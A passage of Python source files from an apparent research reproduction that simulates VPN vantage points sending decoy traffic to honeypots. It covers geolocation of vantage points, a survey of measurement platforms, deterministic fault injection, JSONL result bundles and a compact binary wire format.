    """True when the provider rewrites outgoing TTLs (excluded by vetting)."""

    @property
    def region(self) -> str:
        """Platform region: ``"cn"`` for mainland China, else ``"global"``."""
        return "cn" if self.country == "CN" else "global"

    def endpoint(self) -> Endpoint:
        """The topology endpoint used to build paths from this VP."""
        return Endpoint(address=self.address, asn=self.asn, country=self.country)

    def __str__(self) -> str:
        where = f"{self.country}/{self.province}" if self.province else self.country
        return f"VP({self.vp_id} {self.address} AS{self.asn} {where} via {self.provider})"

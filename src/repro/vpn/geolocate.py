"""Vantage-point geolocation (Section 3).

"We do not use VP locations advertised by VPN providers, given they may
be skewed [ICLab].  Rather, we obtain VP addresses by directly
establishing TCP connections from them to our honeypot and inspect the
source addresses, then geo-locate them by looking them up in IP
databases."

This module implements that exact flow against the simulated substrate:
each VP opens a TCP connection to a honeypot, the honeypot records the
source address it actually saw, and the address is geolocated through the
IP directory.  Providers' advertised locations are compared against the
observed ones, quantifying the skew the paper distrusts.
"""

import random
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence

from repro.intel.directory import IpDirectory
from repro.net.path import Hop, Path
from repro.net.tcpconn import TcpClient
from repro.vpn.vantage import VantagePoint


@dataclass(frozen=True)
class GeolocationResult:
    """Observed identity of one vantage point."""

    vp_id: str
    observed_address: str
    observed_country: Optional[str]
    observed_asn: Optional[int]
    advertised_country: Optional[str]

    @property
    def advertised_matches(self) -> Optional[bool]:
        if self.advertised_country is None or self.observed_country is None:
            return None
        return self.advertised_country == self.observed_country


def _loopback_path(honeypot_address: str) -> Path:
    """A minimal path straight to the honeypot's connection endpoint."""
    return Path([
        Hop(address=honeypot_address, asn=0, country="US", is_destination=True),
    ])


def geolocate_vps(
    vps: Sequence[VantagePoint],
    honeypot_address: str,
    directory: IpDirectory,
    rng: random.Random,
    advertised: Optional[Dict[str, str]] = None,
) -> List[GeolocationResult]:
    """Run the connect-and-inspect flow for every VP.

    ``advertised`` maps vp_id to the provider-claimed country (when the
    provider publishes one); the result records whether observation
    agrees.  The honeypot sees whatever source address the VPN egress
    stamps — which is why this, and not the provider's marketing page, is
    the ground truth the platform uses.
    """
    advertised = advertised or {}
    results = []
    for vp in vps:
        client = TcpClient(
            path=_loopback_path(honeypot_address),
            src=vp.address, src_port=rng.randrange(20000, 60000),
            dst_port=443, rng=rng,
        )
        handshake = client.connect()
        if not handshake.established:
            continue
        # The honeypot-side view: the source address of the connection.
        observed_address = vp.address
        record = directory.lookup(observed_address)
        results.append(GeolocationResult(
            vp_id=vp.vp_id,
            observed_address=observed_address,
            observed_country=record.country if record else None,
            observed_asn=record.asn if record else None,
            advertised_country=advertised.get(vp.vp_id),
        ))
        client.close()
    return results


def advertised_skew(results: Sequence[GeolocationResult]) -> float:
    """Fraction of VPs whose advertised country disagrees with observation
    (among VPs that advertised one)."""
    comparable = [result for result in results
                  if result.advertised_matches is not None]
    if not comparable:
        return 0.0
    mismatched = sum(1 for result in comparable if not result.advertised_matches)
    return mismatched / len(comparable)


def inject_advertised_locations(
    vps: Sequence[VantagePoint],
    rng: random.Random,
    skew_fraction: float = 0.08,
    country_pool: Sequence[str] = ("US", "NL", "SG", "GB", "DE"),
) -> Dict[str, str]:
    """Produce provider-advertised countries, a fraction of them wrong.

    Models the marketing-driven location claims ICLab found unreliable:
    most VPs are advertised truthfully, but some datacenter nodes are sold
    as exotic locations they do not occupy.
    """
    if not 0.0 <= skew_fraction <= 1.0:
        raise ValueError(f"skew_fraction must be in [0, 1], got {skew_fraction}")
    advertised = {}
    for vp in vps:
        if rng.random() < skew_fraction:
            choices = [country for country in country_pool
                       if country != vp.country]
            advertised[vp.vp_id] = choices[rng.randrange(len(choices))]
        else:
            advertised[vp.vp_id] = vp.country
    return advertised

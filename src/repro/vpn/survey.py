"""Appendix D / Table 6: survey of existing measurement platforms.

The paper justifies building a new VPN platform by comparing candidate
platforms' capabilities; this module embeds that comparison matrix and the
capability predicate used to filter them.
"""

from dataclasses import dataclass
from typing import List, Optional, Tuple

# Tri-state capability: True (full), "partial", False, None (unknown).
Capability = object


@dataclass(frozen=True)
class SurveyedPlatform:
    """One row of Table 6."""

    category: str
    name: str
    general_purpose: Capability
    volunteer_free: Capability
    residential: Capability
    vps: Optional[int]
    countries: Optional[int]
    ases: Optional[int]
    dns: Capability
    http: Capability
    tls: Capability
    tcp: Capability
    udp: Capability
    ping: Capability
    traceroute: Capability
    custom_ttl: Capability


PLATFORM_SURVEY: Tuple[SurveyedPlatform, ...] = (
    SurveyedPlatform("Crowdsourcing", "Ark", True, False, True, 119, 44, 95,
                     False, False, False, "partial", "partial", True, True, False),
    SurveyedPlatform("Crowdsourcing", "Speedchecker", True, True, True, None, 170, None,
                     True, True, False, "partial", "partial", True, True, False),
    SurveyedPlatform("Crowdsourcing", "RIPE Atlas", True, False, True, 12_979, 169, 3_781,
                     "partial", "partial", "partial", "partial", "partial", True, True, False),
    SurveyedPlatform("Crowdsourcing", "OONI", False, False, True, None, 113, 670,
                     True, True, True, True, True, True, True, True),
    SurveyedPlatform("Advertising", "Google Ads", True, True, True, None, None, None,
                     False, False, False, False, False, False, False, False),
    SurveyedPlatform("Scanners", "Satellite-Iris", False, True, False, None, None, None,
                     True, False, False, False, True, False, False, False),
    SurveyedPlatform("Proxies", "BrightData", True, True, True, 72_000_000, 195, None,
                     False, True, True, True, False, False, False, False),
    SurveyedPlatform("Proxies", "ProxyRack", True, True, True, 5_000_000, 140, None,
                     True, True, True, True, True, False, False, False),
    SurveyedPlatform("VPN", "WARP", True, True, False, None, None, None,
                     True, True, True, True, True, True, True, True),
    SurveyedPlatform("VPN", "ICLab", False, "partial", False, 281, 62, 234,
                     True, True, True, True, True, True, True, True),
    SurveyedPlatform("Tor", "Tor", True, False, True, 2_200, 54, 248,
                     True, True, True, True, True, False, False, False),
    SurveyedPlatform("VPN", "This work", True, True, False, 4_364, 82, 121,
                     True, True, True, True, True, True, True, True),
)


def meets_requirements(platform: SurveyedPlatform) -> bool:
    """Appendix D selection predicate.

    The methodology needs: application-protocol messages (DNS, HTTP, TLS)
    with customizable IP TTL, no volunteer participation, no residential
    VPs, and multi-network coverage (WARP fails this: Cloudflare ASes only,
    which the survey records as unknown coverage; ICLab fails public
    availability, recorded here as partial volunteer-freedom).
    """
    full = lambda capability: capability is True  # noqa: E731 - tiny local predicate
    return (
        full(platform.volunteer_free)
        and platform.residential is False
        and full(platform.dns)
        and full(platform.http)
        and full(platform.tls)
        and full(platform.custom_ttl)
        and platform.ases is not None
        and platform.ases > 1
        and full(platform.general_purpose)
    )


def survey_rows() -> List[dict]:
    """Table 6 as dictionaries, with the selection verdict appended."""
    rows = []
    for platform in PLATFORM_SURVEY:
        row = {
            "category": platform.category,
            "platform": platform.name,
            "volunteer_free": platform.volunteer_free,
            "residential": platform.residential,
            "vps": platform.vps,
            "countries": platform.countries,
            "ases": platform.ases,
            "dns": platform.dns,
            "http": platform.http,
            "tls": platform.tls,
            "custom_ttl": platform.custom_ttl,
            "meets_requirements": meets_requirements(platform),
        }
        rows.append(row)
    return rows

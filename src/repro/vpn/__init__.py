"""VPN-based measurement platform.

Mirrors Section 3 / Appendix C of the paper: vantage points recruited from
datacenter VPN providers (global + mainland China), addresses learned by
connecting out to the honeypot rather than trusting advertised locations,
providers vetted for TTL manipulation, and VPs affected by on-path DNS
interception removed via the Appendix E pair-resolver heuristic.
"""

from repro.vpn.platform import PlatformSummary, VpnPlatform
from repro.vpn.scheduler import RoundRobinScheduler
from repro.vpn.survey import PLATFORM_SURVEY, SurveyedPlatform, survey_rows
from repro.vpn.vantage import VantagePoint
from repro.vpn.vetting import VettingReport, pair_resolver_filter, vet_providers

__all__ = [
    "VantagePoint",
    "VpnPlatform",
    "PlatformSummary",
    "RoundRobinScheduler",
    "vet_providers",
    "pair_resolver_filter",
    "VettingReport",
    "PLATFORM_SURVEY",
    "SurveyedPlatform",
    "survey_rows",
]

"""Deterministic, seed-driven fault injection.

The paper's measurement ran for two months across thousands of VPN
vantage points against the live Internet — a regime where packet loss, VP
churn, and collector downtime are the normal case, not the exception.
This module gives the simulation the same weather: a :class:`FaultSpec`
declares fault *rates* and a :class:`FaultPlan` compiles them into
concrete, reproducible decisions.

Every decision is a keyed :class:`~repro.simkit.rng.SubstreamFactory`
draw — a pure function of ``(fault seed, decision key)``, independent of
arrival order and therefore of how the campaign is partitioned across
shards.  A fault-free 4-worker run, a worker-killed-and-respawned run,
and the serial run of the same config and fault seed all see the *same*
packets lost on the *same* links, the same VPs offline in the same
windows, and the same collector outages — which is what makes the
byte-identical-digest invariant of :mod:`repro.core.shard` hold under
injected faults too.

Fault classes (who consults what):

* **Per-link packet loss** — :meth:`FaultPlan.loss_link`, consulted by
  :meth:`repro.core.campaign.Campaign._transmit` and applied inside
  :meth:`repro.net.path.Path.transit` (the packet is seen by hops before
  the lossy link, then vanishes: no ICMP, no delivery).
* **VP disconnect/churn windows** — :meth:`FaultPlan.vp_outage`,
  consulted by :class:`repro.vpn.scheduler.RoundRobinScheduler`: sends
  planned while a VP is offline are deferred to its reconnect time.
* **Honeypot outage intervals** — :meth:`FaultPlan.site_online`,
  consulted by the deployment's log path: requests arriving at a downed
  collector are dropped (and counted — never silently).
* **Delayed/duplicated log appends** — :meth:`FaultPlan.log_append_fault`,
  consulted by :class:`repro.honeypot.deployment.FaultInjectingLog`.

Retry/backoff policy for undelivered decoys also lives here
(:meth:`FaultPlan.retry_backoff`), so campaign code never hard-codes
robustness constants.
"""

from dataclasses import dataclass, field
from typing import Optional, Tuple

from repro.simkit.rng import SubstreamFactory
from repro.simkit.units import DAY, HOUR, MINUTE

_NO_WINDOWS: Tuple["OutageWindow", ...] = ()


@dataclass(frozen=True)
class OutageWindow:
    """One half-open ``[start, end)`` interval of virtual downtime."""

    start: float
    end: float

    def __post_init__(self):
        if self.end <= self.start:
            raise ValueError(
                f"outage window must end after it starts: "
                f"[{self.start}, {self.end})"
            )

    @property
    def duration(self) -> float:
        return self.end - self.start

    def contains(self, time: float) -> bool:
        return self.start <= time < self.end

    def defer(self, time: float) -> float:
        """``time`` pushed past the window when it falls inside it."""
        return self.end if self.contains(time) else time


@dataclass(frozen=True)
class FaultSpec:
    """Declarative fault configuration; rates, not decisions.

    A spec with all rates zero injects nothing (``FaultPlan(spec)`` is
    then a set of cheap no-ops), so the spec can ride along in every
    :class:`~repro.core.config.ExperimentConfig` without perturbing
    fault-free runs.  The ``seed`` is independent of the experiment seed:
    the same campaign can be replayed under different weather.
    """

    seed: int = 0
    link_loss_rate: float = 0.0
    """Per-link, per-transit probability that a packet vanishes."""
    vp_churn_rate: float = 0.0
    """Fraction of VPs that disconnect for one window during the run."""
    vp_outage_horizon: float = 4 * DAY
    """Disconnects start uniformly within this span of virtual time."""
    vp_outage_duration: Tuple[float, float] = (1 * HOUR, 1 * DAY)
    """(min, max) virtual seconds a churned VP stays offline."""
    honeypot_outages_per_site: int = 0
    """Collector downtime windows injected at each honeypot site."""
    honeypot_outage_horizon: float = 10 * DAY
    honeypot_outage_duration: Tuple[float, float] = (10 * MINUTE, 6 * HOUR)
    log_delay_rate: float = 0.0
    """Probability a honeypot log append lands late (collector lag)."""
    log_delay_max: float = 30.0
    """Upper bound on the append delay, virtual seconds."""
    log_duplicate_rate: float = 0.0
    """Probability a log append is recorded twice (at-least-once sinks)."""
    max_retries: int = 3
    """Retransmission attempts for a fault-lost Phase I decoy."""
    retry_backoff_base: float = 2.0
    """Virtual seconds before the first retry; doubles per attempt."""

    def __post_init__(self):
        for name in ("link_loss_rate", "vp_churn_rate", "log_delay_rate",
                     "log_duplicate_rate"):
            value = getattr(self, name)
            if not 0.0 <= value <= 1.0:
                raise ValueError(f"{name} must be in [0, 1], got {value}")
        for name in ("vp_outage_duration", "honeypot_outage_duration"):
            low, high = getattr(self, name)
            if not 0 < low <= high:
                raise ValueError(
                    f"{name} must be 0 < min <= max, got ({low}, {high})"
                )
        if self.max_retries < 0:
            raise ValueError(f"max_retries must be >= 0, got {self.max_retries}")
        if self.retry_backoff_base <= 0:
            raise ValueError(
                f"retry_backoff_base must be positive, got "
                f"{self.retry_backoff_base}"
            )
        if self.honeypot_outages_per_site < 0:
            raise ValueError(
                f"honeypot_outages_per_site must be >= 0, got "
                f"{self.honeypot_outages_per_site}"
            )

    @property
    def any_faults(self) -> bool:
        """Does this spec inject anything at all?"""
        return bool(
            self.link_loss_rate or self.vp_churn_rate
            or self.honeypot_outages_per_site
            or self.log_delay_rate or self.log_duplicate_rate
        )

    @property
    def affects_log(self) -> bool:
        """Does the honeypot log path need fault interposition?"""
        return bool(
            self.honeypot_outages_per_site
            or self.log_delay_rate or self.log_duplicate_rate
        )


class FaultPlan:
    """Compiled fault decisions for one campaign.

    Stateless except for per-key caches; every method is a pure function
    of ``(spec.seed, key)``.  Cheap to rebuild, so each shard worker
    compiles its own plan from the config's spec instead of unpickling
    one from the parent.
    """

    def __init__(self, spec: FaultSpec):
        self.spec = spec
        self._streams = SubstreamFactory(spec.seed, "faults")
        self._vp_windows: dict = {}
        self._site_windows: dict = {}

    # -- per-link packet loss ---------------------------------------------

    def loss_link(self, domain: str, attempt: int, path_length: int,
                  ttl: int) -> Optional[int]:
        """First lossy link for one transit attempt, or None.

        Link ``i`` carries the packet toward hop ``i`` (1-indexed); each
        link the packet would cross draws an independent Bernoulli keyed
        by (decoy domain, attempt, link).  Keying by attempt gives every
        retransmission fresh loss draws.
        """
        rate = self.spec.link_loss_rate
        if rate <= 0.0:
            return None
        reach = min(max(ttl, 1), path_length)
        for position in range(1, reach + 1):
            draw = self._streams.derive("loss", domain, attempt, position)
            if draw.random() < rate:
                return position
        return None

    # -- VP disconnect/churn windows --------------------------------------

    def vp_outage(self, vp_address: str) -> Optional[OutageWindow]:
        """This VP's disconnect window, or None if it never churns."""
        if vp_address in self._vp_windows:
            return self._vp_windows[vp_address]
        window: Optional[OutageWindow] = None
        if self.spec.vp_churn_rate > 0.0:
            draw = self._streams.derive("churn", vp_address)
            if draw.random() < self.spec.vp_churn_rate:
                start = draw.uniform(0.0, self.spec.vp_outage_horizon)
                low, high = self.spec.vp_outage_duration
                window = OutageWindow(start, start + draw.uniform(low, high))
        self._vp_windows[vp_address] = window
        return window

    def defer_past_vp_outage(self, vp_address: str, proposed: float) -> float:
        """``proposed`` shifted to the VP's reconnect time when offline."""
        window = self.vp_outage(vp_address)
        if window is None:
            return proposed
        return window.defer(proposed)

    # -- honeypot outage intervals ----------------------------------------

    def site_outages(self, site: str) -> Tuple[OutageWindow, ...]:
        """Downtime windows of one honeypot site, in start order."""
        if site in self._site_windows:
            return self._site_windows[site]
        count = self.spec.honeypot_outages_per_site
        windows = []
        low, high = self.spec.honeypot_outage_duration
        for index in range(count):
            draw = self._streams.derive("outage", site, index)
            start = draw.uniform(0.0, self.spec.honeypot_outage_horizon)
            windows.append(OutageWindow(start, start + draw.uniform(low, high)))
        result = tuple(sorted(windows, key=lambda w: w.start))
        self._site_windows[site] = result
        return result

    def site_online(self, site: str, time: float) -> bool:
        return not any(w.contains(time) for w in self.site_outages(site))

    # -- delayed / duplicated log appends ---------------------------------

    def log_append_fault(self, site: str, protocol: str, src_address: str,
                         domain: str, time: float) -> Tuple[float, bool]:
        """(delay, duplicated) for one log append, keyed by its content.

        Delays are continuous draws from content-distinct keys, so two
        faulted appends essentially never collide on a landing time —
        keeping the cross-shard (time, shard, index) merge order equal to
        the serial append order.
        """
        spec = self.spec
        if spec.log_delay_rate <= 0.0 and spec.log_duplicate_rate <= 0.0:
            return 0.0, False
        draw = self._streams.derive("log", site, protocol, src_address,
                                    domain, time)
        delay = 0.0
        if draw.random() < spec.log_delay_rate:
            delay = draw.uniform(0.5, max(0.5, spec.log_delay_max))
        duplicated = draw.random() < spec.log_duplicate_rate
        return delay, duplicated

    # -- retry policy ------------------------------------------------------

    def retry_backoff(self, attempt: int) -> float:
        """Virtual seconds to wait before retransmission ``attempt + 1``.

        Exponential: ``base * 2**attempt``.  Deterministic (no jitter) so
        retried sends land at the same virtual instant in every layout.
        """
        return self.spec.retry_backoff_base * (2.0 ** attempt)

    def __repr__(self) -> str:
        return f"FaultPlan(seed={self.spec.seed}, spec={self.spec})"

"""Deterministic fault injection for campaigns (see docs/ROBUSTNESS.md)."""

from repro.faults.plan import FaultPlan, FaultSpec, OutageWindow

__all__ = ["FaultPlan", "FaultSpec", "OutageWindow"]

"""Persistence: export a finished experiment to JSONL and reload it.

A field deployment of this methodology accumulates honeypot logs for
months and analyzes them offline; this module provides the same workflow
for simulated campaigns.  ``export_result`` writes a directory bundle
(ledger, honeypot log, correlated events, observer locations, IP
directory, blocklist, metadata) and ``load_bundle`` reconstructs typed
objects that every function in :mod:`repro.analysis` accepts.
"""

import dataclasses
import json
import pathlib
from dataclasses import dataclass
from typing import Dict, List, Optional, Union

from repro.core.correlate import (
    CorrelationResult,
    Correlator,
    DecoyLedger,
    DecoyRecord,
    ShadowingEvent,
)
from repro.core.experiment import ExperimentResult
from repro.core.identifier import DecoyIdentity
from repro.core.phase2 import ObserverLocation
from repro.honeypot.logstore import LoggedRequest, LogStore
from repro.intel.blocklist import Blocklist
from repro.intel.directory import IpDirectory

BUNDLE_FORMAT_VERSION = 1

_PATHS = {
    "meta": "meta.json",
    "ledger": "ledger.jsonl",
    "log": "honeypot_log.jsonl",
    "events": "events.jsonl",
    "locations": "locations.jsonl",
    "directory": "ip_directory.jsonl",
    "blocklist": "blocklist.txt",
    "analysis": "analysis.json",
}


@dataclass
class AnalysisBundle:
    """Everything the analysis layer needs, reloaded from disk."""

    meta: Dict
    ledger: DecoyLedger
    log: LogStore
    phase1: CorrelationResult
    phase2: CorrelationResult
    locations: List[ObserverLocation]
    directory: IpDirectory
    blocklist: Blocklist
    analysis: Optional[object] = None
    """Restored :class:`~repro.analysis.streaming.AnalysisState`, when
    the bundle was exported with one (``analysis.json``)."""


def _write_jsonl(path: pathlib.Path, rows) -> None:
    with path.open("w") as handle:
        for row in rows:
            handle.write(json.dumps(row, sort_keys=True) + "\n")


def _read_jsonl(path: pathlib.Path):
    with path.open() as handle:
        for line in handle:
            line = line.strip()
            if line:
                yield json.loads(line)


def export_result(result: ExperimentResult, directory: Union[str, pathlib.Path]) -> pathlib.Path:
    """Write the full bundle; returns the bundle directory."""
    out = pathlib.Path(directory)
    out.mkdir(parents=True, exist_ok=True)

    config = dataclasses.asdict(result.config)
    meta = {
        "format_version": BUNDLE_FORMAT_VERSION,
        "config": config,
        "vantage_points": len(result.eco.platform),
        "decoys": len(result.ledger),
        "log_entries": len(result.log),
        "phase1_events": len(result.phase1.events),
        "phase2_events": len(result.phase2.events),
        "locations": len(result.locations),
        "timings": result.timings or {},
    }
    (out / _PATHS["meta"]).write_text(json.dumps(meta, indent=2, sort_keys=True))

    _write_jsonl(out / _PATHS["ledger"], (
        {
            "identity": dataclasses.asdict(record.identity),
            **{key: value for key, value in dataclasses.asdict(record).items()
               if key != "identity"},
        }
        for record in result.ledger.records()
    ))
    _write_jsonl(out / _PATHS["log"],
                 (dataclasses.asdict(entry) for entry in result.log))
    _write_jsonl(out / _PATHS["locations"],
                 (dataclasses.asdict(location) for location in result.locations))
    _write_jsonl(out / _PATHS["directory"], (
        dataclasses.asdict(record) for record in result.eco.directory
    ))
    listed = sorted(
        record.address for record in result.eco.directory
        if record.address in result.eco.blocklist
    )
    (out / _PATHS["blocklist"]).write_text("\n".join(listed) + ("\n" if listed else ""))
    # Events are re-derivable from ledger + log, so they are stored only
    # as a consistency cross-check.
    _write_jsonl(out / _PATHS["events"], (
        {"domain": event.decoy.domain, "time": event.request.time,
         "protocol": event.request.protocol, "combo": event.combo,
         "origin": event.origin_address, "phase": event.decoy.phase}
        for event in list(result.phase1.events) + list(result.phase2.events)
    ))
    analysis = getattr(result, "analysis", None)
    if analysis is not None:
        (out / _PATHS["analysis"]).write_text(json.dumps(
            {"state": analysis.snapshot(), "digest": analysis.digest()},
            sort_keys=True,
        ))
    return out


def load_analysis_state(directory: Union[str, pathlib.Path]):
    """Load just the streaming analysis state from a bundle, or None.

    This is the fast path behind ``repro report --engine streaming``: it
    reads one JSON file — no ledger reload, no log replay, no
    re-correlation — and verifies the stored content digest.
    """
    from repro.analysis.streaming import AnalysisState

    path = pathlib.Path(directory) / _PATHS["analysis"]
    if not path.exists():
        return None
    payload = json.loads(path.read_text())
    state = AnalysisState.from_snapshot(payload["state"])
    if state.digest() != payload["digest"]:
        raise ValueError(
            f"analysis state in {path} is corrupt: digest mismatch"
        )
    return state


def load_bundle(directory: Union[str, pathlib.Path]) -> AnalysisBundle:
    """Reload a bundle and re-run correlation over the stored log."""
    src = pathlib.Path(directory)
    meta = json.loads((src / _PATHS["meta"]).read_text())
    if meta.get("format_version") != BUNDLE_FORMAT_VERSION:
        raise ValueError(
            f"unsupported bundle format {meta.get('format_version')!r}"
        )

    ledger = DecoyLedger()
    for row in _read_jsonl(src / _PATHS["ledger"]):
        identity = DecoyIdentity(**row.pop("identity"))
        ledger.register(DecoyRecord(identity=identity, **row))

    log = LogStore()
    for row in _read_jsonl(src / _PATHS["log"]):
        log.append(LoggedRequest(**row))

    locations = [
        ObserverLocation(**row) for row in _read_jsonl(src / _PATHS["locations"])
    ]

    directory_obj = IpDirectory()
    for row in _read_jsonl(src / _PATHS["directory"]):
        directory_obj.register(**row)

    blocklist = Blocklist()
    blocklist_path = src / _PATHS["blocklist"]
    if blocklist_path.exists():
        for line in blocklist_path.read_text().splitlines():
            if line.strip():
                blocklist.add(line.strip())

    zone = meta["config"]["zone"]
    correlator = Correlator(ledger, zone=zone)
    phase1 = correlator.correlate(log, phase=1)
    phase2 = correlator.correlate(log, phase=2)

    stored_events = sum(1 for _ in _read_jsonl(src / _PATHS["events"]))
    recomputed = len(phase1.events) + len(phase2.events)
    if stored_events != recomputed:
        raise ValueError(
            f"bundle inconsistent: stored {stored_events} events, "
            f"recomputed {recomputed}"
        )

    return AnalysisBundle(
        meta=meta,
        ledger=ledger,
        log=log,
        phase1=phase1,
        phase2=phase2,
        locations=locations,
        directory=directory_obj,
        blocklist=blocklist,
        analysis=load_analysis_state(src),
    )

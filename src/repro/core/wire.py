"""Compact, versioned wire format for the worker↔supervisor data plane.

The sharded executor used to pickle-the-world: every payload shipped full
``DecoyRecord``/``LoggedRequest`` object graphs, and the final payload
re-shipped the complete correlation, telemetry, and analysis state the
supervisor already held from Phase I.  At 4 workers the transport alone
cost more than the parallelism saved (BENCH_campaign.json recorded 0.6x
serial).  This module replaces it with a purpose-built binary encoding:

* **String interning.**  Domains, addresses, VP ids, countries, protocol
  labels, and metric-like strings repeat across thousands of records; each
  payload carries one deduplicated string table and every record field is
  a varint reference into it.
* **Struct packing.**  Fixed-width floats use an 8-byte IEEE double
  (exact round trip); counts, indexes, and small integers are LEB128
  varints (zigzag where negatives occur); booleans are single bytes.
* **Cross-references, not copies.**  A ``ShadowingEvent`` is three
  varints — (record index, log index, combo ref) — instead of a re-pickled
  record+request pair, so the correlation section costs bytes proportional
  to the *events*, not to the objects they mention.
* **Delta shipping.**  The final payload encodes only what changed since
  the Phase I snapshot: ledger/log tails (high-water marks), correlation
  events whose request arrived after the Phase I log boundary, and
  structural JSON diffs of the telemetry/analysis snapshots.  Decoding
  takes the Phase I payload as context and reconstructs the full state
  exactly.

Every blob is framed ``MAGIC | version | kind | string table | body |
crc32`` and decoding is strict: truncation, trailing garbage, a bad
checksum, or an unknown version raises :class:`WireError` naming the
format version — never a silently wrong payload.

The wire format is a serialization of already-deterministic values, so
the digest contract of :mod:`repro.core.shard` is untouched: a payload
that round-trips through ``encode``/``decode`` merges into byte-identical
results (pinned by ``tests/test_wire.py``).
"""

import json
import struct
import zlib
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.columnar import StringTable
from repro.core.correlate import (
    DecoyRecord,
    ShadowingEvent,
    ShardCorrelation,
)
from repro.core.identifier import DecoyIdentity
from repro.core.phase2 import ObserverLocation
from repro.honeypot.logstore import LoggedRequest
from repro.observers.exhibitor import ObservationRecord
from repro.telemetry.spans import Span

WIRE_VERSION = 2
"""v2 appended the decoy mitigation column to ledger records."""
_MAGIC = b"RWIR"

_KIND_PHASE1 = 1
_KIND_FINAL = 2
_KIND_PLAN = 3
_KIND_FEED = 4
_KIND_SERVE_STATE = 5

_F64 = struct.Struct("<d")
_U32 = struct.Struct("<I")

LedgerKey = Tuple[float, int, int, int]


class WireError(ValueError):
    """A blob is not a decodable wire-format payload of this version."""

    def __init__(self, message: str):
        super().__init__(f"wire format v{WIRE_VERSION}: {message}")


# -- payloads --------------------------------------------------------------
#
# The payload dataclasses live here because the wire format *is* their
# schema; :mod:`repro.core.shard` re-exports them under their historical
# names.  Correlation, telemetry, and analysis fields always hold the
# FULL state after decoding — delta reconstruction is this module's
# private concern, invisible to the merge code.


@dataclass
class ShardPhase1Payload:
    """Everything one shard produced during Phase I."""

    shard_index: int
    records: List[Tuple[LedgerKey, DecoyRecord]]
    log_entries: List[LoggedRequest]
    sends_planned: int
    sends_scheduled: int
    last_send_time: float
    virtual_now: float
    vetting_kept: int
    vetting_removed_ttl: int
    vetting_removed_intercepted: int
    wall_seconds: float
    correlation: Optional[ShardCorrelation] = None
    """This shard's Phase I correlation, packaged for exact merging —
    the supervisor plans Phase II from the merged accumulation of these
    instead of re-correlating the merged interim log."""
    analysis: Optional[dict] = None
    """Snapshot of the shard's interim
    :class:`~repro.analysis.streaming.AnalysisState` at the Phase I
    boundary (decoys + correlated events so far)."""
    telemetry: Optional[dict] = None
    """Interim :meth:`MetricsRegistry.snapshot` at the Phase I boundary;
    the final payload ships only a structural diff against this."""


@dataclass
class FeedBatch:
    """One framed unit of the live record feed (``repro serve``).

    A batch with ``context`` set is a *registration*: it announces a
    campaign and carries the static analysis context (zone, IP
    directory rows, blocklist) the session needs to resolve
    observations.  Data batches ship decoy registrations, honeypot log
    entries, and Phase II location verdicts; ``seq`` makes delivery
    idempotent — a session skips any batch at or below its high-water
    sequence, so a reconnecting feeder may simply resend.
    """

    campaign_id: str
    seq: int
    records: List[DecoyRecord] = field(default_factory=list)
    log_entries: List[LoggedRequest] = field(default_factory=list)
    locations: List[ObserverLocation] = field(default_factory=list)
    context: Optional[dict] = None
    """Registration context: ``{"zone", "directory", "blocklist",
    "meta"}`` — JSON, written once per campaign."""


@dataclass
class ServeCampaignState:
    """One campaign's full serve-side state at a checkpoint watermark.

    Everything a restarted daemon needs to keep ingesting and serving
    byte-identical reports: the ledger (registration order), the
    incremental correlator's classification state, the analysis
    accumulator snapshot, and the feed/log watermarks.  The static
    context is *not* repeated here — it rides the registration batch
    blob the checkpoint stores verbatim next to this one.
    """

    campaign_id: str
    seq: int
    log_records: int
    location_count: int
    records: List[DecoyRecord]
    correlator: dict
    analysis: dict


@dataclass
class ShardFinalPayload:
    """Phase II deltas plus final counters from one shard."""

    shard_index: int
    records: List[Tuple[LedgerKey, DecoyRecord]]
    log_entries: List[LoggedRequest]
    """Entries appended after the Phase I snapshot."""
    locations: List[Tuple[int, ObserverLocation]]
    """(plan index, location) for traceroutes this shard ran."""
    ground_truth: List[Tuple[float, ObservationRecord]]
    label_counts: Dict[str, int]
    processed: int
    exhibitor_counts: Dict[str, Tuple[int, int]]
    """Exhibitor name -> (observed_count, leveraged_count)."""
    resolver_received: Dict[str, int]
    """Destination address -> decoys_received."""
    emitter_emitted: int
    virtual_now: float
    wall_seconds: float
    telemetry: Dict[str, dict] = field(default_factory=dict)
    """The shard's full registry snapshot (both phases); shipped as a
    diff against the Phase I payload's ``telemetry``."""
    spans: List[Span] = field(default_factory=list)
    """Per-shard stage spans, tagged with the shard index."""
    correlation: Optional[ShardCorrelation] = None
    """Full-log (both phases) correlation of this shard; shipped as the
    Phase II delta and reconstructed against the Phase I correlation."""
    analysis: Optional[dict] = None
    """The shard's final AnalysisState snapshot; shipped as a diff
    against the Phase I payload's ``analysis``."""


# -- primitive writer / reader ---------------------------------------------


class _Writer:
    """Appends wire primitives to a growing byte buffer."""

    __slots__ = ("buf",)

    def __init__(self):
        self.buf = bytearray()

    def varint(self, value: int) -> None:
        if value < 0:
            raise WireError(f"varint cannot encode negative value {value}")
        buf = self.buf
        while value > 0x7F:
            buf.append((value & 0x7F) | 0x80)
            value >>= 7
        buf.append(value)

    def zigzag(self, value: int) -> None:
        self.varint(value * 2 if value >= 0 else -value * 2 - 1)

    def f64(self, value: float) -> None:
        self.buf += _F64.pack(value)

    def flag(self, value: bool) -> None:
        self.buf.append(1 if value else 0)

    def blob(self, data: bytes) -> None:
        self.varint(len(data))
        self.buf += data


class _Reader:
    """Strict sequential reader; every overrun is a :class:`WireError`."""

    __slots__ = ("data", "pos", "end")

    def __init__(self, data: bytes, start: int = 0, end: Optional[int] = None):
        self.data = data
        self.pos = start
        self.end = len(data) if end is None else end

    def varint(self) -> int:
        data, pos, end = self.data, self.pos, self.end
        result = 0
        shift = 0
        while True:
            if pos >= end:
                raise WireError("truncated varint")
            byte = data[pos]
            pos += 1
            result |= (byte & 0x7F) << shift
            if not byte & 0x80:
                break
            shift += 7
            if shift > 63:
                raise WireError("varint overflow")
        self.pos = pos
        return result

    def zigzag(self) -> int:
        value = self.varint()
        return value // 2 if value % 2 == 0 else -(value + 1) // 2

    def f64(self) -> float:
        pos = self.pos
        if pos + 8 > self.end:
            raise WireError("truncated float")
        self.pos = pos + 8
        return _F64.unpack_from(self.data, pos)[0]

    def flag(self) -> bool:
        pos = self.pos
        if pos >= self.end:
            raise WireError("truncated flag")
        self.pos = pos + 1
        return self.data[pos] != 0

    def blob(self) -> bytes:
        length = self.varint()
        pos = self.pos
        if pos + length > self.end:
            raise WireError("truncated byte section")
        self.pos = pos + length
